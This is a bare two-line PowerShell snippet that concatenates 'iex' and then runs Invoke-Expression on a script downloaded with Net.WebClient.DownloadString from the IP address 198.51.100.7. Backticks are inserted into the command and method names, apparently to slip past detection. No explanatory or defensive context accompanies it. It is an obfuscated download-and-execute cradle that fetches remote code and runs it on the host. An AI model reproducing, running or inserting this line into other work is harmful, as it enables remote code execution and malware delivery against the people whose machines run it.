$x = 'i'+'e'+'x'
I`nv`oke-Expr`ession (New-Object Net.WebClient).Down`loadString('http://198.51.100.7/a')
